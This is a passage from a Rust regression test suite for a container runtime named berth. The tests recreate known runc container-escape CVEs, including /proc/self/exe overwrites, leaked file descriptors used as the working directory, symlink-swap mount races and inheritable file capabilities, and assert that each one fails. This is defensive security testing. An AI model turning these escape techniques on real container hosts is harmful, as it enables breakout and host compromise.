         interpreter chains: {accepted:?}"
    );
}

/// A created container A run by a copy of berth, and a container B in A's
/// pid namespace (with `caps` added) that grabs /proc/1/exe, A's init,
/// then writes to it once A has started. Returns the attacker's log.
fn sibling_exe_attack(name: &str, caps: &[&str]) -> (String, bool) {
    let mut a = Ctx::new(&format!("{name}-a"));
    let mut b = Ctx::new(&format!("{name}-b"));
    let copy = BerthCopy::new(&a);
    a.args(&["sleep", "1000"]);
    let (ida, apid) = copy.create(&mut a, "victim").expect("create the victim");
    install_probe(&b.rootfs());
    let out = dir_in(&b, "out");
    b.args(&["/bin/cve-probe", "exe-attack", "/out", "1"])
        .edit(|v| {
            join_ns(v, "pid", &format!("/proc/{apid}/ns/pid"));
            bind(v, &out, "/out");
            add_caps(v, caps);
        });
    b.start("attacker");
    let log = out.join("attack.txt");
    wait_until("the attacker to try /proc/1/exe", || {
        let t = text(&log);
        t.contains("open-exe") || t.contains("done")
    });
    // Init execs: the binary is no longer running, the write may go through.
    copy.start(&a, &ida);
    wait_until("A to exec", || execd(apid, "sleep"));
    wait_text(&log, "done");
    (text(&log), copy.intact())
}

#[test]
fn cve_2019_5736_a_sibling_in_the_pid_namespace_cannot_reach_inits_binary() {
    let (attack, intact) = sibling_exe_attack("c5736sib", &[]);
    assert!(
        intact,
        "CVE-2019-5736: a container in the pid namespace of a created \
         container overwrote berth through /proc/1/exe of its init:\n{attack}"
    );
    assert!(
        attack.contains("open-exe denied"),
        "the created init's /proc/1/exe must be out of reach (it is \
         non-dumpable):\n{attack}"
    );
}

#[test]
fn cve_2019_5736_a_sibling_with_cap_sys_ptrace_cannot_overwrite_berth() {
    // CAP_SYS_PTRACE overrides non-dumpable: a debugging sidecar sharing a
    // pod's pid namespace has it. runc is safe there because /proc/PID/exe
    // of its init is a sealed copy (memfd, runc-dmz or a read-only
    // overlayfs), never the host's binary.
    let (attack, intact) = sibling_exe_attack("c5736ptr", &["CAP_SYS_PTRACE"]);
    assert!(
        intact,
        "CVE-2019-5736: a container with CAP_SYS_PTRACE in the pid namespace \
         of a created container overwrote the host's berth binary through \
         /proc/1/exe of its init, once the init had exec'd:\n{attack}"
    );
    assert!(!attack.contains("write GRANTED"), "{attack}");
}

#[test]
fn cve_2019_5736_exec_into_a_container_with_cap_sys_ptrace_cannot_overwrite_berth() {
    // The original attack's shape: the container waits for the runtime to
    // `exec` into it, opens /proc/PID/exe of the runtime's process there
    // (CAP_SYS_PTRACE gets past non-dumpable), and writes to it once that
    // process has exec'd.
    let mut a = Ctx::new("c5736exec");
    let copy = BerthCopy::new(&a);
    install_probe(&a.rootfs());
    let out = dir_in(&a, "out");
    a.args(&["/bin/cve-probe", "exe-attack", "/out", "scan"])
        .edit(|v| {
            bind(v, &out, "/out");
            add_caps(v, &["CAP_SYS_PTRACE"]);
        });
    let (id, _) = copy.create(&mut a, "victim").expect("create the victim");
    copy.start(&a, &id);
    let log = out.join("attack.txt");
    wait_text(&log, "ready");
    for _ in 0..200 {
        let o = copy.run(&a, &["exec", &id, "true"]);
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        if text(&log).contains("open-exe") {
            break;
        }
    }
    let found = text(&log).contains("open-exe");
    if found {
        // No berth runs now: the write is tried once ETXTBSY is gone.
        wait_text(&log, "done");
    }
    fs::write(out.join("stop"), "").unwrap();
    let log = wait_text(&log, "done");
    assert!(found, "the attacker never saw berth's exec process:\n{log}");
    assert!(
        copy.intact(),
        "CVE-2019-5736: a container overwrote berth through /proc/PID/exe of \
         the process `berth exec` made in it:\n{log}"
    );
    assert!(!log.contains("write GRANTED"), "{log}");
}

#[test]
fn cve_2016_9962_a_running_container_cannot_reach_berth_exec_as_it_enters() {
    // `exec` enters a running container's pid namespace: the container
    // probes the process from its first instant there to its execve. The
    // container's /etc/passwd is a FIFO, so the process waits inside (it
    // reads the file for HOME) until the test writes to it, and the
    // watcher gets many passes at it.
    let mut a = Ctx::new("c9962exec");
    install_probe(&a.rootfs());
    let out = dir_in(&a, "out");
    let passwd = a.rootfs().join("etc/passwd");
    fs::remove_file(&passwd).unwrap();
    nix::unistd::mkfifo(&passwd, nix::sys::stat::Mode::from_bits_truncate(0o644)).unwrap();
    // The container outlives the watcher: the exec goes on after it.
    a.args(&[
        "sh",
        "-c",
        "/bin/cve-probe watch berth /out; exec sleep 1000",
    ])
    .edit(|v| {
        bind(v, &out, "/out");
        v["process"]["env"] = json!(["PATH=/bin:/sbin", "HOME=/root"]);
    });
    let (id, _) = a.start("watcher");
    let log = out.join("watch.txt");
    wait_text(&log, "ready");
    let pfile = a.dir.join("process.json");
    let p =
        json!({"user": {"uid": 0, "gid": 0}, "args": ["true"], "cwd": "/", "env": ["PATH=/bin"]});
    fs::write(&pfile, serde_json::to_vec(&p).unwrap()).unwrap();
    let ps = pfile.to_string_lossy().into_owned();
    let mut exec = a.cmd(&["exec", "--process", &ps, &id]);
    let err_path = a.dir.join("exec.err");
    exec.stdout(Stdio::null())
        .stderr(fs::File::create(&err_path).unwrap());
    let mut child = exec.spawn().unwrap();
    wait_text(&log, "target");
    let passes = || text(&out.join("passes")).trim().parse::<u64>().unwrap_or(0);
    let p0 = passes();
    wait_until("the watcher to probe the exec process again", || {
        passes() >= p0 + 3
    });
    // The watcher stops before the process goes on: what it probes is
    // berth's, never the user's program after its execve.
    fs::write(out.join("stop"), "").unwrap();
    let log = wait_text(&log, "stopped");
    // Let it go: a writer for the FIFO (once the process has opened it to
    // read: until then ENXIO), then end of file.
    let mut w = None;
    wait_until("the exec process to open /etc/passwd", || {
        if let Ok(Some(st)) = child.try_wait() {
            panic!("exec ended early ({st}): {}", text(&err_path));
        }
        w = fs::OpenOptions::new()
            .write(true)
            .custom_flags(libc::O_NONBLOCK)
            .open(&passwd)
            .ok();
        w.is_some()
    });
    let mut w = w.unwrap();
    std::io::Write::write_all(&mut w, b"root:x:0:0:root:/root:/bin/sh\n").unwrap();
    drop(w);
    let st = child.wait().unwrap();
    assert!(st.success(), "exec: {st}: {}", text(&err_path));
    assert!(
        log.contains("target") && log.contains("denied"),
        "the watcher probed berth's exec process:\n{log}"
    );
    let got = granted(&log);
    assert!(
        got.is_empty(),
        "CVE-2016-9962: a container got into `berth exec`'s process as it \
         entered: {got:?}\n{log}"
    );
}

#[test]
fn cve_2019_5736_a_script_swapped_after_berths_check_cannot_change_berth() {
    // The entrypoint is in a volume another container writes: berth checks
    // the file it opens, then execs by path, so the file can change in
    // between, and a `#!/proc/self/exe` script swapped in then runs berth
    // inside the container. What runs is berth's read-only view of itself
    // (it re-execs from a read-only bind mount of its binary, or a sealed
    // copy, before any container exists), so the link the container gets
    // leads to nothing it can write: the attack it opens must not change
    // the host's binary. The swapped script writes through the link.
    let mut r = Ctx::new("c5736swap-r");
    let mut v = Ctx::new("c5736swap-v");
    let copy = BerthCopy::new(&v);
    let vol = dir_in(&v, "vol");
    write_exec(&vol.join("run.sh"), "#!/bin/sh\necho harmless-script\n");
    write_exec(&vol.join("alt.sh"), "#!/proc/self/exe --version\n");
    r.edit(|c| bind(c, &vol, "/vol"));
    let racer = Racer::start(&mut r, &vol, "/vol", &[("/vol/run.sh", "/vol/alt.sh")]);
    v.args(&["/vol/run.sh"]).edit(|c| bind(c, &vol, "/vol"));
    let b = v.bundle.to_string_lossy().into_owned();
    let (mut refused, mut harmless, mut ran_berth, mut other) = (0, 0, 0, Vec::new());
    for n in 0..ATTEMPTS {
        let id = v.id(&format!("r{n}"));
        let out = copy.run(&v, &["run", "--bundle", &b, &id]);
        let (o, e) = (
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        );
        if o.contains("berth version") {
            ran_berth += 1;
        } else if o.contains("harmless-script") {
            harmless += 1;
        } else if e.contains("berth's own binary") {
            refused += 1;
        } else {
            // A swap in the middle of execve: the kernel's own failure.
            other.push(format!("attempt {n}: {} {o}{e}", out.status));
        }
        assert!(
            copy.intact(),
            "CVE-2019-5736: the host's berth binary changed after attempt {n}"
        );
    }
    let swaps = racer.stop();
    // The swapped script, run through berth's /proc/self/exe, tries the
    // write itself: the view berth runs from refuses it.
    write_exec(
        &vol.join("write.sh"),
        "#!/bin/sh\nexec 3<>/proc/self/exe 2>/dev/null && echo opened-rw || echo refused\n",
    );
    v.args(&["/vol/write.sh"]);
    let id = v.id("w");
    let out = copy.run(&v, &["run", "--bundle", &b, &id]);
    assert!(String::from_utf8_lossy(&out.stdout).contains("refused") || !out.status.success());
    assert!(
        copy.intact(),
        "CVE-2019-5736: the host's berth binary changed ({swaps} swaps, {refused} refused, \
         {harmless} harmless runs, {ran_berth} runs of berth's read-only view, \
         other outcomes: {other:?})"
    );
}

// ---------------------------------------------------------------------------
// CVE-2016-9962: ptrace and /proc access to the runtime joining a container
// ---------------------------------------------------------------------------
//
// runc's `runc init` was dumpable while it joined a container: a process in
// the container could ptrace it, or take its fds (the state directory) from
// /proc/PID/fd, and reach the host. berth's init is non-dumpable from its
// first instruction (berth calls prctl(PR_SET_DUMPABLE, 0) before clone3).

/// The lines of a probe's log that say an attack got through.
fn granted(log: &str) -> Vec<&str> {
    log.lines().filter(|l| l.contains("GRANTED")).collect()
}

#[test]
fn cve_2016_9962_a_created_init_is_out_of_reach_of_its_pid_namespace() {
    let mut a = Ctx::new("c9962join-a");
    let mut b = Ctx::new("c9962join-b");
    a.args(&["sleep", "1000"]);
    let (ida, apid) = a.create("victim");
    install_probe(&b.rootfs());
    let out = dir_in(&b, "out");
    b.args(&["/bin/cve-probe", "probe", "1", "/out/probe.txt"])
        .edit(|v| {
            join_ns(v, "pid", &format!("/proc/{apid}/ns/pid"));
            bind(v, &out, "/out");
        });
    // From a process started in the namespace, and from one that has run
    // for a while; both as root, with the capabilities of the base config.
    b.run_ok("attacker");
    let log = wait_text(&out.join("probe.txt"), "done");
    assert!(
        log.contains("target 1 berth:[init]"),
        "pid 1 of the namespace is the created init:\n{log}"
    );
    let got = granted(&log);
    assert!(
        got.is_empty(),
        "CVE-2016-9962: a process in the pid namespace of a created \
         container got into its init: {got:?}\n{log}"
    );
    // The init is untouched: it still starts.
    a.ok(&["start", &ida]);
    wait_until("A to exec", || execd(apid, "sleep"));
}

#[test]
fn cve_2016_9962_a_running_container_cannot_reach_an_init_that_joins_it() {
    // The `runc exec` shape: the container runs first, and watches for the
    // runtime to enter its pid namespace, probing it from its first
    // instant (still named `berth`) through its setup to its exec.
    let mut a = Ctx::new("c9962watch-a");
    let mut b = Ctx::new("c9962watch-b");
    install_probe(&a.rootfs());
    let out = dir_in(&a, "out");
    a.args(&["/bin/cve-probe", "watch", "berth", "/out"])
        .edit(|v| bind(v, &out, "/out"));
    let (_, apid) = a.start("watcher");
    let log = out.join("watch.txt");
    wait_text(&log, "ready");
    b.args(&["sleep", "1000"])
        .edit(|v| join_ns(v, "pid", &format!("/proc/{apid}/ns/pid")));
    let (idb, bpid) = b.create("joiner");
    wait_text(&log, "target");
    let passes = || text(&out.join("passes")).trim().parse::<u64>().unwrap_or(0);
    let p0 = passes();
    wait_until("the watcher to probe the created init again", || {
        passes() >= p0 + 3
    });
    b.ok(&["start", &idb]);
    wait_until("B to exec", || execd(bpid, "sleep"));
    fs::write(out.join("stop"), "").unwrap();
    let log = wait_text(&log, "stopped");
    let got = granted(&log);
    assert!(
        got.is_empty(),
        "CVE-2016-9962: a container got into berth's init while it joined \
         the container's pid namespace: {got:?}\n{log}"
    );
}

// ---------------------------------------------------------------------------
// CVE-2024-21626: host file descriptors leaked into the container
// ---------------------------------------------------------------------------
//
// runc leaked a host directory fd into `runc init`; process.cwd set to
// /proc/self/fd/N put the container's process in the host's filesystem
// (attack 1), and a path through /proc/self/fd/N as the program to execute
// ran a host binary in the container, whose /proc/self/exe could then be
// written (runc's fix "init: close internal fds before execve"). runc also
// marks every fd it inherited from its caller close-on-exec before it
// starts `runc init`. berth's init is a clone of `berth create`: whatever
// its caller left open without O_CLOEXEC is open in init too.

/// Fds given to berth at 3..=20, all an open host directory: what a
/// careless caller (a shim, a manager) might leak.
const LEAKED: std::ops::RangeInclusive<i32> = 3..=20;

fn leak_dir(cmd: &mut Command, dir: &OwnedFd) {
    for n in LEAKED {
        with_fd(cmd, dir.as_raw_fd(), n);
    }
}

fn open_dir(p: &Path) -> OwnedFd {
    nix::fcntl::open(
        p,
        nix::fcntl::OFlag::O_RDONLY | nix::fcntl::OFlag::O_DIRECTORY | nix::fcntl::OFlag::O_CLOEXEC,
        Mode::empty(),
    )
    .unwrap()
}

/// `run` (foreground) or `create` + `start` of the bundle, with `leak` at
/// fds 3..=20 when given; the container's stdout and stderr together.
/// For create, `inspect` sees the container's process before it exits.
fn run_leaking(
    c: &mut Ctx,
    suffix: &str,
    create: bool,
    leak: Option<&OwnedFd>,
    inspect: &mut dyn FnMut(i32),
) -> Result<String, String> {
    let id = c.id(suffix);
    let b = c.bundle.to_string_lossy().into_owned();
    let (o, e) = (
        c.dir.join(format!("{suffix}.out")),
        c.dir.join(format!("{suffix}.err")),
    );
    let sub = if create { "create" } else { "run" };
    let mut cmd = c.cmd(&[sub, "--bundle", &b, &id]);
    cmd.stdout(fs::File::create(&o).unwrap())
        .stderr(fs::File::create(&e).unwrap());
    if let Some(d) = leak {
        leak_dir(&mut cmd, d);
    }
    let st = cmd.status().unwrap();
    if create {
        if !st.success() {
            c.assert_gone(&id);
            return Err(text(&e));
        }
        let pid = init_pid(c, &id);
        c.reap_later(pid);
        c.ok(&["start", &id]);
        inspect(pid);
        c.ok(&["delete", "--force", &id]);
        c.assert_gone(&id);
    } else if !st.success() && !text(&o).contains("END") {
        c.assert_gone(&id);
        return Err(text(&o) + &text(&e));
    }
    Ok(text(&o) + &text(&e))
}

/// The fds of a container's process, each with where it leads; none above
/// stdio, and none a directory.
fn assert_only_stdio(pid: i32, what: &str) {
    let dir = format!("/proc/{pid}/fd");
    let mut fds: Vec<(i32, String)> = fs::read_dir(&dir)
        .unwrap()
        .flatten()
        .map(|e| {
            let n: i32 = e.file_name().to_string_lossy().parse().unwrap();
            let to = fs::read_link(e.path()).unwrap_or_default();
            (n, to.to_string_lossy().into_owned())
        })
        .collect();
    fds.sort();
    for (n, to) in &fds {
        let md = fs::metadata(format!("{dir}/{n}"));
        assert!(
            !md.is_ok_and(|m| m.is_dir()),
            "{what}: fd {n} of the container's process is the host directory {to}: {fds:?}"
        );
    }
    let numbers: Vec<i32> = fds.iter().map(|f| f.0).collect();
    assert_eq!(
        numbers,
        [0, 1, 2],
        "{what}: the container's process has more than stdio open: {fds:?}"
    );
}

#[test]
fn cve_2024_21626_cwd_through_proc_self_fd_3_to_20_never_leaves_the_root() {
    let mut c = Ctx::new("c21626cwd");
    let leak = dir_in(&c, "leak");
    let secret = unique("host-secret");
    fs::write(c.dir.join("secret"), &secret).unwrap();
    let leaked = open_dir(&leak);
    let rootfs = fs::canonicalize(c.rootfs()).unwrap();
    // Relative to a cwd of the leaked directory, ../secret is the host's.
    let probe = "pwd; cat ../secret; cat ./../secret; cat /proc/self/cwd/../secret; \
                 ls /proc/self/cwd/..; cd .. && cat secret; echo END; exec sleep 1000";
    for n in LEAKED {
        let cwd = format!("/proc/self/fd/{n}");
        c.args(&["sh", "-c", probe])
            .edit(|v| v["process"]["cwd"] = json!(cwd));
        for (mode, leak) in [("own", None), ("leaked", Some(&leaked))] {
            let what = format!("cwd {cwd} ({mode} fds)");
            let mut inspect = |pid: i32| {
                wait_until("the process to run", || execd(pid, "sleep"));
                let cwd_now = fs::read_link(format!("/proc/{pid}/cwd")).unwrap();
                assert!(
                    cwd_now.starts_with(&rootfs),
                    "{what}: the container's cwd is {} on the host",
                    cwd_now.display()
                );
                assert_only_stdio(pid, &what);
            };
            for create in [false, true] {
                let suffix = format!("{}{mode}{n}", if create { "c" } else { "r" });
                // `run` of a sleeping process would not return: it exits.
                if !create {
                    c.args(&["sh", "-c", &probe.replace("exec sleep 1000", "true")]);
                }
                match run_leaking(&mut c, &suffix, create, leak, &mut inspect) {
                    Ok(all) => {
                        assert!(
                            !all.contains(&secret),
                            "CVE-2024-21626: {what}: the container read the host's {}:\n{all}",
                            c.dir.join("secret").display()
                        );
                        assert!(
                            all.starts_with('/'),
                            "{what}: pwd is outside the root: {all}"
                        );
                    }
                    Err(e) => assert!(!e.contains(&secret), "{e}"),
                }
                c.args(&["sh", "-c", probe]);
            }
        }
    }
}

#[test]
fn cve_2024_21626_no_host_fd_survives_into_the_container_process() {
    let mut c = Ctx::new("c21626fds");
    let leak = dir_in(&c, "leak");
    let leaked = open_dir(&leak);
    c.args(&["sleep", "1000"]);
    // create + start, with and without leaked fds.
    for (mode, l) in [("own", None), ("leaked", Some(&leaked))] {
        let what = format!("create with {mode} fds");
        let mut inspect = |pid: i32| {
            wait_until("sleep to exec", || execd(pid, "sleep"));
            assert_only_stdio(pid, &what);
        };
        run_leaking(&mut c, mode, true, l, &mut inspect).unwrap();
    }
    // run --detach.
    let id = c.id("detached");
    let b = c.bundle.to_string_lossy().into_owned();
    let mut cmd = c.cmd(&["run", "--detach", "--bundle", &b, &id]);
    leak_dir(&mut cmd, &leaked);
    let out = output(cmd, &c.dir);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let pid = init_pid(&c, &id);
    c.reap_later(pid);
    wait_until("sleep to exec", || execd(pid, "sleep"));
    assert_only_stdio(pid, "run --detach with leaked fds");
    // From inside: no fd of the process leads anywhere but stdio.
    c.args(&[
        "sh",
        "-c",
        "for n in $(seq 3 20); do ls /proc/self/fd/$n/ 2>/dev/null && echo OPEN-$n; done; echo END",
    ]);
    let mut none = |_: i32| {};
    let all = run_leaking(&mut c, "inside", false, Some(&leaked), &mut none).unwrap();
    assert!(!all.contains("OPEN-"), "leaked fds are open inside: {all}");
}

#[test]
fn cve_2024_21626_exec_through_a_leaked_fd_never_runs_a_host_binary() {
    // runc's "close internal fds before execve": the program to run, given
    // as a path through /proc/self/fd/N (here through a symlink of the
    // image, as a malicious image would), resolves in the host's
    // filesystem while a host directory is open at N, and the host's
    // binary runs in the container; its /proc/self/exe is then the host's
    // file, open to CVE-2019-5736 style writes.
    let mut c = Ctx::new("c21626exec");
    let leak = dir_in(&c, "leak");
    let host_bin = leak.join("host-only-probe");
    fs::copy(probe_bin(), &host_bin).unwrap();
    let secret = unique("host-secret");
    fs::write(leak.join("secret"), &secret).unwrap();
    let leaked = open_dir(&leak);
    let ups = "../".repeat(24);
    for n in LEAKED {
        // /hN leads to the host's "/" through fd N.
        symlink(
            format!("/proc/self/fd/{n}/{ups}"),
            c.rootfs().join(format!("h{n}")),
        );
    }
    let mut ran = Vec::new();
    for n in LEAKED {
        let path = format!("/h{n}{}", host_bin.display());
        c.args(&[&path, "say", "HOST-BINARY-RAN"]);
        let mut none = |_: i32| {};
        for (mode, l) in [("own", None), ("leaked", Some(&leaked))] {
            if let Ok(all) = run_leaking(&mut c, &format!("x{mode}{n}"), false, l, &mut none) {
                if all.contains("HOST-BINARY-RAN") {
                    ran.push(format!("args[0] {path} ({mode} fds): {}", all.trim()));
                }
            }
        }
        // The cwd through the same symlink.
        let cwd = format!("/h{n}{}", leak.display());
        c.args(&["sh", "-c", "cat secret; cat ./secret; pwd"])
            .edit(|v| v["process"]["cwd"] = json!(cwd));
        if let Ok(all) = run_leaking(&mut c, &format!("w{n}"), false, Some(&leaked), &mut none) {
            assert!(
                !all.contains(&secret),
                "CVE-2024-21626: cwd {cwd} with leaked fds read the host's secret: {all}"
            );
        }
        c.edit(|v| v["process"]["cwd"] = json!("/"));
    }
    assert!(
        ran.is_empty(),
        "CVE-2024-21626: with host directories leaked to berth at fds 3..=20 \
         (as a careless caller would), the container's program resolved \
         through /proc/self/fd/N and berth exec'd a binary of the host:\n{}",
        ran.join("\n")
    );
}

// ---------------------------------------------------------------------------
// CVE-2021-30465: a mount target swapped for a symlink while mounts are made
// ---------------------------------------------------------------------------
//
// runc's advisory (Etienne Champetier's exploit): two containers share a
// volume; the victim mounts a second volume at many targets inside the
// shared one (/test1/mnt1 ... /test1/mntN), and the attacker swaps each
// target directory for a symlink out of the root (renameat2
// RENAME_EXCHANGE) in a loop. runc resolved the target, then mounted by
// path: the mount landed on the host's directory of volumes, in the
// container's mount namespace, and a later mount whose source was under
// that directory bind-mounted whatever the attacker put there -- a symlink
// to "/" -- into the container: the host's root. berth resolves every
// target with openat2(RESOLVE_IN_ROOT) and mounts on the fd it got.

#[test]
fn cve_2021_30465_symlink_exchange_never_mounts_outside_the_root() {
    let mut r = Ctx::new("c30465-r");
    let mut v = Ctx::new("c30465-v");
    let vols = dir_in(&v, "vols");
    let (test1, test2, test3) = (vols.join("test1"), vols.join("test2"), vols.join("test3"));
    for d in [&test1, &test2, &test3] {
        fs::create_dir_all(d).unwrap();
    }
    fs::write(test3.join("legit"), "the real volume\n").unwrap();
    // Once test2 sits on top of the volumes directory, the sources of the
    // mounts after it are in test2: test2 again (a symlink to itself, so
    // every later mntK still finds it) and test3, a symlink to the host's
    // root.
    symlink(".", test2.join("test2"));
    symlink("/", test2.join("test3"));
    const N: usize = 24;
    let mut pairs = Vec::new();
    for k in 0..N {
        fs::create_dir(test1.join(format!("mnt{k}"))).unwrap();
        // From the victim's rootfs/test1/mntK, ../../../vols is the host's
        // volumes directory (rootfs/test1 is the mount of test1); every
        // other target is the absolute host path instead.
        let out = if k % 2 == 0 {
            PathBuf::from("../../../vols")
        } else {
            vols.clone()
        };
        symlink(out, test1.join(format!("mnt{k}.lnk")));
        pairs.push((format!("/test1/mnt{k}"), format!("/test1/mnt{k}.lnk")));
    }
    // Swaps every target and its symlink once, from the host.
    let swap_all = || {
        for k in 0..N {
            let (d, l) = (
                test1.join(format!("mnt{k}")),
                test1.join(format!("mnt{k}.lnk")),
            );
            let t = test1.join(".swap");
            fs::rename(&d, &t).unwrap();
            fs::rename(&l, &d).unwrap();
            fs::rename(&t, &l).unwrap();
        }
    };
    v.args(&["sleep", "1000"]).edit(|c| {
        bind(c, &test1, "/test1");
        for k in 0..N {
            bind(c, &test2, &format!("/test1/mnt{k}"));
        }
        bind(c, &test3, "/test3");
    });
    let host_before = host_mounts();
    let host_root_dev = mount_dev(&fs::read_to_string("/proc/self/mountinfo").unwrap(), "/");
    let b = v.bundle.to_string_lossy().into_owned();
    let (mut made, mut failed) = (0, Vec::new());
    let mut attempt = |v: &mut Ctx, what: &str| {
        let id = v.id(&format!("a{made}-{}", failed.len()));
        let out = v.berth(&["create", "--bundle", &b, &id]);
        if out.status.success() {
            made += 1;
            let pid = init_pid(v, &id);
            v.reap_later(pid);
            let test3_mount = mounts_of(pid)
                .into_iter()
                .rfind(|m| m.0 == "/test3")
                .expect("a mount at /test3");
            let legit = fs::read_to_string(format!("/proc/{pid}/root/test3/legit"));
            assert!(
                test3_mount.1 == test3.to_string_lossy() && legit.is_ok(),
                "CVE-2021-30465: {what}: /test3 of the container is not the \
                 test3 volume but {} (the host's root when it is \"/\"): a \
                 mount at /test1/mntK went out of the root",
                test3_mount.1
            );
            // Nothing in the container is the host's root directory.
            let mi = fs::read_to_string(format!("/proc/{pid}/mountinfo")).unwrap();
            for l in mi.lines() {
                let f: Vec<&str> = l.split(' ').collect();
                assert!(
                    !(f[3] == "/" && Some(f[2]) == host_root_dev.as_deref()),
                    "CVE-2021-30465: {what}: the host's root is mounted at {} \
                     in the container",
                    f[4]
                );
            }
        } else {
            failed.push(String::from_utf8_lossy(&out.stderr).into_owned());
        }
        v.ok(&["delete", "--force", &id]);
        v.assert_gone(&id);
        assert_host_mounts(&host_before, &[&v.dir], what);
    };

    // The race already won: every target is the symlink when berth looks.
    swap_all();
    attempt(&mut v, "every mount target a symlink out of the root");
    swap_all();

    // The race itself.
    r.edit(|c| {
        bind(c, &test1, "/test1");
        bind(c, &test2, "/test2");
    });
    let pairs_ref: Vec<(&str, &str)> = pairs
        .iter()
        .map(|(a, b)| (a.as_str(), b.as_str()))
        .collect();
    let racer = Racer::start(&mut r, &test1, "/test1", &pairs_ref);
    for n in 0..ATTEMPTS {
        attempt(&mut v, &format!("raced, attempt {n}"));
    }
    let swaps = racer.stop();
    assert!(swaps > 0, "the racer never swapped");
    assert_host_mounts(&host_before, &[&v.dir, &r.dir], "after the race");
    assert!(
        fs::read_dir(&test3).unwrap().count() == 1,
        "the test3 volume was written to"
    );
    eprintln!(
        "{made} containers made, {} failed ({swaps} swaps): {failed:?}",
        failed.len()
    );
}

// ---------------------------------------------------------------------------
// CVE-2022-29162: inheritable capabilities
// ---------------------------------------------------------------------------
//
// runc before 1.1.2 gave processes a non-empty inheritable set; a program
// with inheritable file capabilities then gained them in its permitted set
// on execve, even as a non-root user (P'(permitted) = P(inheritable) &
// F(inheritable) | ...). The inheritable set must be empty unless the
// config asks for one, and a file's capabilities can give no more.

/// Capability sets of a `grep Cap /proc/self/status` output.
fn cap_sets(out: &str) -> Vec<(String, String)> {
    out.lines()
        .filter_map(|l| {
            let (k, v) = l.split_once(':')?;
            Some((k.trim().to_string(), v.trim().to_string()))
        })
        .filter(|(k, _)| k.starts_with("Cap"))
        .collect()
}

fn cap(sets: &[(String, String)], name: &str) -> String {
    sets.iter()
        .find(|(k, _)| k == name)
        .map(|(_, v)| v.clone())
        .unwrap_or_else(|| panic!("no {name} in {sets:?}"))
}

#[test]
fn cve_2022_29162_file_capabilities_grant_nothing_beyond_the_config() {
    let mut c = Ctx::new("c29162");
    let root = c.rootfs();
    // A busybox whose file capabilities would raise CAP_CHOWN, CAP_NET_RAW,
    // CAP_SYS_ADMIN and CAP_DAC_OVERRIDE from the inheritable set; named
    // grep, so busybox runs grep.
    fs::create_dir_all(root.join("capbin")).unwrap();
    fs::copy(root.join("bin/busybox"), root.join("capbin/grep")).unwrap();
    let st = Command::new("setcap")
        .arg("cap_chown,cap_net_raw,cap_sys_admin,cap_dac_override+ei")
        .arg(root.join("capbin/grep"))
        .status()
        .expect("setcap (apt-get install libcap2-bin)");
    assert!(st.success(), "setcap failed");
    let bounding = [
        "CAP_CHOWN",
        "CAP_NET_RAW",
        "CAP_KILL",
        "CAP_AUDIT_WRITE",
        "CAP_NET_BIND_SERVICE",
    ];
    let read_caps = |c: &mut Ctx, suffix: &str, direct: bool| -> Vec<(String, String)> {
        if direct {
            c.args(&["/capbin/grep", "Cap", "/proc/self/status"]);
        } else {
            c.args(&["sh", "-c", "/capbin/grep Cap /proc/self/status"]);
        }
        cap_sets(&c.run_ok(suffix))
    };
    let none = cap_mask(&[]);

    // The base config: no inheritable set.
    c.args(&["sleep", "1000"]);
    let (_, pid) = c.start("base");
    wait_until("sleep to exec", || execd(pid, "sleep"));
    assert_eq!(
        status_field(pid, "CapInh"),
        none,
        "CapInh of the base config"
    );
    assert_eq!(
        status_field(pid, "CapAmb"),
        none,
        "CapAmb of the base config"
    );

    // A user (uid 1000) with no inheritable set, no_new_privs off (file
    // capabilities need it off), execs the file-capability binary, itself
    // and through a shell: nothing is gained.
    c.edit(|v| {
        v["process"]["user"] = json!({"uid": 1000, "gid": 1000});
        v["process"]["noNewPrivileges"] = json!(false);
        v["process"]["capabilities"] = json!({
            "bounding": bounding,
            "effective": bounding,
            "permitted": bounding,
        });
    });
    for direct in [true, false] {
        let sets = read_caps(&mut c, &format!("user{direct}"), direct);
        for set in ["CapInh", "CapPrm", "CapEff", "CapAmb"] {
            assert_eq!(
                cap(&sets, set),
                none,
                "CVE-2022-29162: a non-root process exec'ing a binary with \
                 inheritable file capabilities has {set} set: {sets:?}"
            );
        }
    }

    // The config asks for CAP_CHOWN inheritable: exactly that is gained.
    c.edit(|v| v["process"]["capabilities"]["inheritable"] = json!(["CAP_CHOWN"]));
    for direct in [true, false] {
        let sets = read_caps(&mut c, &format!("inh{direct}"), direct);
        assert_eq!(cap(&sets, "CapInh"), cap_mask(&["CAP_CHOWN"]), "{sets:?}");
        assert_eq!(cap(&sets, "CapPrm"), cap_mask(&["CAP_CHOWN"]), "{sets:?}");
        assert_eq!(cap(&sets, "CapEff"), cap_mask(&["CAP_CHOWN"]), "{sets:?}");
    }

    // Root gets the bounding set on execve, never more, whatever the file
    // says (CAP_SYS_ADMIN and CAP_DAC_OVERRIDE are not in it).
    c.edit(|v| {
        v["process"]["user"] = json!({"uid": 0, "gid": 0});
        v["process"]["capabilities"]
            .as_object_mut()
            .unwrap()
            .remove("inheritable");
    });
    for direct in [true, false] {
        let sets = read_caps(&mut c, &format!("root{direct}"), direct);
        assert_eq!(cap(&sets, "CapInh"), none, "{sets:?}");
        assert_eq!(cap(&sets, "CapBnd"), cap_mask(&bounding), "{sets:?}");
        assert_eq!(cap(&sets, "CapPrm"), cap_mask(&bounding), "{sets:?}");
    }
}

// ---------------------------------------------------------------------------
// CVE-2023-27561 (CVE-2019-19921) and CVE-2023-28642: /proc as a symlink
// ---------------------------------------------------------------------------
//
// CVE-2019-19921 (reintroduced as CVE-2023-27561): the image's /proc is a
// symlink into a volume shared with a racing container, which swaps the
// directories on the way (/evil/level1 and /evil/level1~): procfs lands in
// one, and the read-only and masked paths of /proc are applied in the
// other, so /proc/sys/kernel/core_pattern stays writable. CVE-2023-28642:
// runc's check that /proc is an ordinary directory followed symlinks, so a
// symlinked /proc was accepted again. runc refuses proc or sysfs anywhere
// but on an ordinary directory.

/// The proc and sysfs mounts of a container: (mount point, fstype).
fn kernel_fs_mounts(pid: i32) -> Vec<(String, String)> {
    mounts_of(pid)
        .into_iter()
        .filter(|m| m.2 == "proc" || m.2 == "sysfs")
        .map(|m| (m.0, m.2))
        .collect()
}

#[test]
fn cve_2023_27561_proc_symlink_into_a_raced_volume_is_refused() {
    let mut r = Ctx::new("c27561-r");
    let mut v = Ctx::new("c27561-v");
